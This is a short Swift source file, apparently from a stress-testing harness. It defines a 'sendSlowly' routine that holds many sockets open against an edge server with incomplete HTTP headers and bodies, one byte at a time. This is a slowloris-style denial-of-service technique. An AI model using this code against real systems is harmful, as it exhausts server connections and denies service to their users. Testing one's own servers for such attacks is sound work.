import CallClient

extension AttackContext {
  /// Half of the requests come slowly in their head, half in their body.
  func sendSlowly() {
    let host = "Host: \(edges[0].host):\(edges[0].port)\r\n"
    let head = "GET /v1/connect HTTP/1.1\r\n" + host + "Cookie: "
    let body =
      "POST /v1/devices HTTP/1.1\r\n" + host + "Content-Length: 60000\r\n\r\n{"
    let fleet = keepSockets { socket, number in
      socket.write((number.isMultiple(of: 2) ? head : body).utf8)
    }
    paceAttack(fleet) { socket, _ in socket.write([0x61]) }
  }
}
